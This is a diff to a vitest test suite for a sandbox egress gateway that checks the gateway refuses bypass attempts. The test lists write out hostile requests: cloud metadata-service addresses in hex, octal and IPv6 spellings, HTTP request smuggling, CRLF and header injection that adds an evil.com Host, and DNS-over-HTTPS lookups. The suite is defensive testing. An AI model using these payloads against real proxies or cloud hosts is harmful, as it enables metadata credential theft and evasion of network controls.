@@ -1,72 +1,49 @@
-import { Buffer } from "node:buffer";
-import { mkdtemp, readFile, rm } from "node:fs/promises";
-import { connect } from "node:net";
-import { tmpdir } from "node:os";
-import { join } from "node:path";
 import { afterAll, beforeAll, expect, test } from "vitest";
-import { parsePolicy } from "../../src/domain/egress.ts";
-import { openGateway } from "../../src/gateway/gateway.ts";
-import type { Gateway } from "../../src/ports/gateway.ts";
-import type { Sandbox } from "../../src/ports/sandbox.ts";
-import { openUpstream, type Upstream } from "../support/egress/upstream.ts";
-import { openGatewayGuest, runInGuest } from "../support/gateway-guest.ts";
+import { openSandboxed, type Sandboxed } from "../support/egress/sandboxed.ts";
+import type { Upstream } from "../support/egress/upstream.ts";
 
 const ALLOW = "example.com\n*.example.org\nGET,HEAD registry.pkg.example/**\ngithub";
 const MARK = "ANSWER-FROM-OUTSIDE";
 
+let world: Sandboxed;
 let upstream: Upstream;
-let gateway: Gateway;
-let sandbox: Sandbox;
-let directory: string;
-const resolved: string[] = [];
 
 beforeAll(async () => {
-  upstream = await openUpstream();
+  world = await openSandboxed({
+    allow: ALLOW,
+    deny: "secret.example.org",
+    resolve: (host) => [host === "rebound.example.org" ? "169.254.169.254" : "93.184.215.14"],
+  });
+  upstream = world.upstream;
   upstream.script = { body: `${MARK}\n` };
-  directory = await mkdtemp(join(tmpdir(), "airlock-sandbox-egress-"));
-  gateway = await openGateway(
-    {
-      policy: parsePolicy({ allow: ALLOW, deny: "secret.example.org" }),
-      mode: "allowlist",
-      model: undefined,
-      limits: { maxCostUsd: 1, maxTurns: 0 },
-      logPath: join(directory, "egress.jsonl"),
-    },
-    {
-      resolve: async (host) => {
-        resolved.push(host);
-        return host === "rebound.example.org" ? ["169.254.169.254"] : ["93.184.215.14"];
-      },
-      dial: async ({ port }) => {
-        const socket = connect({ port: port === 443 ? upstream.tlsPort : upstream.httpPort, host: "127.0.0.1", allowHalfOpen: true });
-        await new Promise((done, fail) => socket.once("connect", done).once("error", fail));
-        return socket;
-      },
-      upstreamCa: [upstream.ca],
-    },
-  );
-  sandbox = await openGatewayGuest(gateway);
-  const bundle = Buffer.concat([gateway.files[0]?.content ?? Buffer.alloc(0), Buffer.from(upstream.ca)]);
-  await sandbox.writeFiles([{ path: "/etc/airlock/ca-bundle.pem", content: bundle, owner: "root" }]);
 });
 
-afterAll(async () => {
-  await sandbox?.[Symbol.asyncDispose]();
-  await gateway?.[Symbol.asyncDispose]();
-  await upstream?.[Symbol.asyncDispose]();
-  await rm(directory, { recursive: true, force: true });
-});
+afterAll(() => world?.[Symbol.asyncDispose]());
 
-const inside = (script: string): Promise<string> => runInGuest(sandbox, gateway, script);
+const inside = (script: string): Promise<string> => world.inside(script);
 
 const curl = (args: string): string => `curl -sS -i --max-time 6 ${args}`;
 const node = (body: string): string => `node -e '${body}'`;
+const SEND = node(
+  'const s=require("net").connect(3128,"127.0.0.1");process.stdin.pipe(s,{end:false});s.on("data",d=>{console.log(String(d));process.exit()});s.on("close",()=>{console.log("closed");process.exit()});s.on("error",()=>0)',
+);
+/** Bytes to the proxy's port as they are, in the spelling of `printf`. */
+const raw = (bytes: string): string => `printf '${bytes}' | ${SEND}`;
+/** A plain request through the proxy that names its host twice alike. */
+const get = (host: string): string => `GET http://${host}/ HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
+/** SOCKS5: no authentication, then a connection by name to port 80, and a request. */
+const socks = (host: string): string =>
+  node(
+    `const h=Buffer.from(${JSON.stringify(host)});const s=require("net").connect(3128,"127.0.0.1");s.write(Buffer.from([5,1,0]));s.once("data",()=>{s.write(Buffer.concat([Buffer.from([5,1,0,3,h.length]),h,Buffer.from([0,80]),Buffer.from("GET / HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n")]));s.on("data",d=>console.log(d.toString("latin1")))});s.on("error",()=>0);s.on("close",()=>{console.log("closed");process.exit()});setTimeout(()=>process.exit(console.log("late")),3000)`,
+  );
 
 const HONEST = [
   { name: "plain HTTP through the proxy", script: curl("http://example.com/") },
   { name: "TLS through the proxy", script: curl("https://www.example.org/") },
   { name: "TLS that the gateway reads", script: curl("https://registry.pkg.example/package") },
   { name: "SOCKS5 with the name resolved outside", script: curl("--noproxy '' --proxy socks5h://127.0.0.1:3128 http://example.com/") },
+  { name: "a request as bytes", script: raw(get("example.com")) },
+  { name: "SOCKS5 as bytes", script: socks("example.com") },
   { name: "Node's fetch", script: node('fetch("https://registry.pkg.example/").then(async (r) => console.log(await r.text()))') },
 ];
 
@@ -87,11 +64,12 @@ const ATTACKS = [
   { name: "a raw address in decimal", script: curl("--proxy-header X: -x http://127.0.0.1:3128 http://1572394766/") },
   {
     name: "an allowed host on port 22",
-    script: `printf 'CONNECT example.com:22 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n' | ${node('const s=require("net").connect(3128,"127.0.0.1");process.stdin.pipe(s,{end:false});s.on("data",d=>{console.log(String(d));process.exit()})')}`,
+    script: raw("CONNECT example.com:22 HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n"),
   },
   { name: "the metadata service", script: curl("--noproxy '*' http://169.254.169.254/latest/meta-data/") },
   { name: "the metadata service through the proxy", script: curl("http://169.254.169.254/latest/meta-data/") },
   { name: "the metadata service in hex", script: curl("http://0xa9fea9fe/") },
+  { name: "the metadata service in octal, as curl reads it", script: curl("http://0251.0376.0251.0376/") },
   { name: "the metadata service as mapped IPv6", script: curl("-g 'http://[::ffff:169.254.169.254]/'") },
   { name: "the metadata service as NAT64", script: curl("-g 'http://[64:ff9b::a9fe:a9fe]/'") },
   { name: "an allowed name that resolves to the metadata service", script: curl("http://rebound.example.org/") },
@@ -114,11 +92,56 @@ const ATTACKS = [
   { name: "DNS over HTTPS at a resolver", script: curl("'https://dns.google/resolve?name=evil.com'") },
   {
     name: "a smuggled second request",
-    script: `printf 'POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.com/ HTTP/1.1\\r\\n\\r\\n' | ${node('const s=require("net").connect(3128,"127.0.0.1");process.stdin.pipe(s,{end:false});s.on("data",d=>{console.log(String(d));process.exit()})')}`,
+    script: raw(
+      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\nGET http://evil.com/ HTTP/1.1\\r\\n\\r\\n",
+    ),
   },
 ];
 
-test.each(ATTACKS)("I3 from inside the sandbox as root: $name brings no answer from outside", async ({ script }) => {
+/** What two readers could take in two ways: line ends, zero bytes, octal numbers. */
+const AMBIGUOUS = [
+  { name: "the metadata service in octal, as written", script: raw(get("0251.0376.0251.0376")) },
+  { name: "the metadata service as one octal number", script: raw(get("025177524776")) },
+  {
+    name: "the metadata service in octal through CONNECT",
+    script: raw("CONNECT 0251.0376.0251.0376:80 HTTP/1.1\\r\\nHost: 0251.0376.0251.0376:80\\r\\n\\r\\n"),
+  },
+  { name: "the metadata service in octal through SOCKS5", script: socks("0251.0376.0251.0376") },
+  { name: "the runner's loopback in octal", script: raw(get("0177.0.0.1")) },
+  {
+    name: "a second Host behind a line end in a header's value",
+    script: curl("-H \"$(printf 'X-A: b\\r\\nHost: evil.com')\" http://example.com/"),
+  },
+  {
+    name: "a bare CR in a header's value",
+    script: raw("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nX-A: b\\rHost: evil.com\\r\\n\\r\\n"),
+  },
+  { name: "bare LF as the line end", script: raw("GET http://example.com/ HTTP/1.1\\nHost: example.com\\n\\n") },
+  {
+    name: "a folded header",
+    script: raw("GET http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nX-A: b\\r\\n Host: evil.com\\r\\n\\r\\n"),
+  },
+  { name: "a line end in the target", script: raw("GET http://example.com/\\r\\nX-A: b HTTP/1.1\\r\\nHost: example.com\\r\\n\\r\\n") },
+  {
+    name: "a line end in the authority of CONNECT",
+    script: raw("CONNECT example.com:443\\r\\nHost: evil.com:443 HTTP/1.1\\r\\nHost: example.com:443\\r\\n\\r\\n"),
+  },
+  { name: "an escaped line end in the host", script: raw(get("example.com%%0d%%0aHost:evil.com")) },
+  { name: "a zero byte in the host", script: raw(get("example.com\\000.evil.com")) },
+  { name: "a line end in the name of SOCKS5", script: socks("example.com\r\nHost: evil.com") },
+  {
+    name: "an escaped line end in the path of a host that is read",
+    script: curl("'https://registry.pkg.example/a%0d%0aHost:%20evil.com'"),
+  },
+  {
+    name: "a second request in a chunk's extension",
+    script: raw(
+      "POST http://example.com/ HTTP/1.1\\r\\nHost: example.com\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n2;a=\\nb\\r\\nhi\\r\\n0\\r\\n\\r\\n",
+    ),
+  },
+];
+
+test.each([...ATTACKS, ...AMBIGUOUS])("I3 from inside the sandbox as root: $name brings no answer from outside", async ({ script }) => {
   const seen = upstream.requests.length;
   const output = await inside(script);
   expect(output).not.toContain(MARK);
@@ -126,8 +149,12 @@ test.each(ATTACKS)("I3 from inside the sandbox as root: $name brings no answer f
   expect(upstream.requests.length).toBe(seen);
 });
 
+test.each(AMBIGUOUS)("I4 from inside the sandbox as root: the gateway itself answers to $name", async ({ script }) => {
+  expect(await inside(script)).toMatch(/^x-airlock-decision: (?:bad-request|ambiguous-path)\r?$|^closed$/m);
+});
+
 test("I3 from inside the sandbox as root: DNS, UDP, QUIC and ICMP do not exist", async () => {
-  const asked = resolved.length;
+  const asked = world.resolved.length;
   const dns = node(
     'const r=new (require("dns").Resolver)({timeout:1000,tries:1});r.setServers(["8.8.8.8"]);r.resolve4("evil.com",(e,a)=>console.log(e?"closed":a))',
   );
@@ -139,7 +166,7 @@ test("I3 from inside the sandbox as root: DNS, UDP, QUIC and ICMP do not exist",
   expect((await inside(local)).trim()).toBe("closed");
   expect((await inside(udp)).trim()).toBe("closed");
   expect(await inside("ping -c 1 -W 1 93.184.215.14 2>&1 || echo closed")).toContain("closed");
-  expect(resolved.length).toBe(asked);
+  expect(world.resolved.length).toBe(asked);
 });
 
 /** Why each of these was refused, as the log has it. */
@@ -159,10 +186,9 @@ test("what the gateway saw of this is in the log with its reason, refused names 
   const played = ATTACKS.filter(({ name }) => name in REASONS);
   expect(played).toHaveLength(Object.keys(REASONS).length);
   for (const { script } of played) await inside(script);
-  expect(new Set(resolved).has("evil.com")).toBe(false);
-  expect(new Set(resolved).has("dns.google")).toBe(false);
-  const dns = gateway.egress().hosts.find(({ host }) => host === "dns.google");
+  expect(new Set(world.resolved).has("evil.com")).toBe(false);
+  expect(new Set(world.resolved).has("dns.google")).toBe(false);
+  const dns = world.gateway.egress().hosts.find(({ host }) => host === "dns.google");
   expect(dns?.command).toMatch(/^curl .*dns\.google/);
-  const readLog = (): Promise<string> => readFile(join(directory, "egress.jsonl"), "utf8");
-  for (const reason of Object.values(REASONS)) await expect.poll(readLog).toContain(`"reason":"${reason}"`);
+  for (const reason of Object.values(REASONS)) await expect.poll(world.readLog).toContain(`"reason":"${reason}"`);
 });
